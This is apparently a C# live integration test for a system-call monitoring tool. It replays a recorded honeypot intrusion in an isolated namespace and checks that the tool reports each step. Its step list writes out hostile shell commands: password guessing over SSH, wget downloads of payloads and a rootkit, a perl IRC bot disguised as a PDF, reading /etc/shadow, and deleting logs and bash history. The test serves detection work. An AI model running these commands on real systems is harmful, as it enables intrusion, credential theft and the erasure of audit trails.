using System.Text.Json;
using CSysdig.Tests.TestKit;
using Xunit.Abstractions;

namespace CSysdig.Tests.Live;

/// <summary>
/// The attack of samples/honeypot.scap.gz once more, step by step on a terminal, with stand-ins for what was brought and in a network of its own: who
/// watches is told of each step while it happens, and what was pinned tells the whole story alone.
/// </summary>
[Collection(IntruderTests.Intruders)]
public sealed class HoneypotTests(ITestOutputHelper output)
{
    const string Attacker = "203.0.113.66", Neighbour = "198.51.100.31";
    /// <summary>Where others of this machine do such things too, theirs may be the newest: so many steps may not be seen on the first line for that, after so many seconds.</summary>
    const int MostHidden = 4, Patience = 10;

    /// <summary>What is typed, and a part of the newest finding, which the first line has then; it leaves out the middle of long ones.</summary>
    static readonly (string Typed, string Told)[] s_steps =
    [
        ("who; uname -a; cat /proc/cpuinfo", "looked around: who, uname -a, cat /proc/cpuinfo"),
        ("cd /usr/sbin; mkdir .shm", "made a hidden folder: /usr/sbin/.shm"),
        ("cd .shm; wget -q http://198.51.100.7/l.tgz", "gz from 198.51.100.7:80"),
        ("tar zxf l.tgz; cd l; ./configure", "compiled: gcc -o conftest conftest.c"),
        ("make; ./hide -s httpd; cd ..; rm -rf l.tgz l", "removed what was brought: /usr/sbin/.shm/l.tgz"),
        ("wget -q http://198.51.100.7/.sloboz.pdf", "df from 198.51.100.7:80"),
        ("perl .sloboz.pdf; rm -rf .sloboz.pdf", "took a false name: /usr/"),
        ("ls -la; who", "took orders over IRC: "),
        ("", "flooded: 203.0.113.150"),
        ("cd /usr/sbin; wget -q http://198.51.100.7/rk.tar; tar xf rk.tar; rm -rf rk.tar", "ar from 198.51.100.7:80"),
        ("cd rk; ./root nanana 2500; cd ..; rm -rf rk", "changed the firewall: ip"),
        ("cat /etc/passwd; cat /etc/shadow | grep root; netstat -tn", "read the passwords: /etc/shadow"),
        ("for log in wtmp lastlog secure xferlog messages; do rm -rf /var/log/$log; done; rm -rf /var/run/utmp; rm -rf /var/log/maillog", "wiped logs: /var/log/wtm"),
        ("rm -rf /root/.bash_history; touch /root/.bash_history", "cleared the history: /root/"),
    ];

    [SkippableFact]
    public void Each_step_of_the_attack_is_told_when_it_is_done_and_what_is_pinned_tells_the_story_alone()
    {
        LiveMachine.Need("tmux", "sshd", "ssh", "sshpass", "ssh-keygen", "openssl", "unshare", "nsenter", "ip", "perl", "wget", "gcc", "make", "strip", "chattr");
        using var folder = new TemporaryFolder();
        using var bench = LiveMachine.Start("unshare", "-m", "-n", "--propagation", "private", "bash", Path.Combine(Repository.Root, "tests/Live/honeypot/bench.sh"), folder.Path);
        var errors = bench.StandardError.ReadToEndAsync();
        try
        {
            Assert.True(LiveMachine.Await(() => File.Exists(folder.File("world")) || bench.HasExited) && !bench.HasExited, "there is no such machine");
            Attack(folder, File.ReadAllText(folder.File("world")).Trim());
        }
        finally
        {
            File.WriteAllText(folder.File("go"), "");
            Assert.True(bench.WaitForExit(20_000) && bench.ExitCode == 0, errors.IsCompleted ? errors.Result : "the machine stays");
        }
        // What is taken for a login, a download or a flood in a capture is taken for one live.
        var sample = Story(Path.Combine(Repository.Root, "samples/honeypot.scap.gz"));
        var told = Directory.GetFiles(folder.File("pins")).Select(Story).MaxBy(story => story.Length)!;
        Assert.Equal(sample, told);
    }

    void Attack(TemporaryFolder folder, string world)
    {
        var hidden = 0;
        using var terminal = new TmuxDriver(160, 45, "--pin", folder.File("pins"));
        terminal.WaitFor("this machine", screen => screen[0].Contains(" live ") && screen[2].StartsWith(" Processes"));
        foreach (var user in (string[])["root", "admin", "root", "test", "root"])
            Assert.NotEqual(0, LiveMachine.Run("nsenter", [.. Login(world, Attacker, user, "wrong"), "true"]).Code);
        using var neighbour = new TmuxDriver(80, 24, ["nsenter", .. Login(world, Neighbour, "alice", "opensesame")], []);
        neighbour.WaitFor("$");
        using var client = new TmuxDriver(80, 24, ["nsenter", .. Login(world, Attacker, "root", "123456")], []);
        Told("guessed a password: root");
        client.WaitFor("$");
        foreach (var (typed, told) in s_steps)
        {
            // Somebody who does nothing is at work at the same time.
            neighbour.Type("wc -l notes.txt; cat /etc/shadow; date").Press("Enter");
            client.Type(typed).Press("Enter");
            Told(told);
        }
        // A machine that is fast is done before the bot has got its last order.
        Assert.True(LiveMachine.Await(() => File.Exists(folder.File("left"))), "the bot does not leave");
        client.Type("exit").Press("Enter").WaitFor("exit 0");
        neighbour.Type("exit").Press("Enter").WaitFor("exit 0");
        terminal.Press("s").WaitFor("the story", screen => screen.Any(line => line.Contains("cleared the history: /root/.bash_history")));
        terminal.Press("q").WaitFor("exit 0");
        Assert.InRange(hidden, 0, MostHidden);

        void Told(string what)
        {
            var began = DateTime.UtcNow;
            var isSeen = LiveMachine.Await(() => terminal.Screen[0].Contains(what), Patience);
            output.WriteLine($"{(DateTime.UtcNow - began).TotalSeconds:F1} s: {(isSeen ? what : $"not {what}, but{terminal.Screen[0]}")}");
            hidden += isSeen ? 0 : 1;
        }
    }

    static string[] Login(string world, string from, string user, string password) =>
        ["-t", world, "-n", "sshpass", "-p", password, "ssh", "-F", "none", "-b", from, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
            "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", $"{user}@198.51.100.20"];

    /// <summary>What was found of who came from there, in its order; without what the sizes of stand-ins and the times of a run decide.</summary>
    static string Story(string capture)
    {
        var run = LiveMachine.Run(SysdigProgram.ExecutablePath, "-r", capture, "-c", "story", "-j");
        Assert.Equal(0, run.Code);
        return string.Join('\n', run.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement)
            .Where(finding => finding.GetProperty("from").GetString() == Attacker)
            .Select(finding => finding.GetProperty("what").GetString()!.Split(" with ")[0]));
    }
}
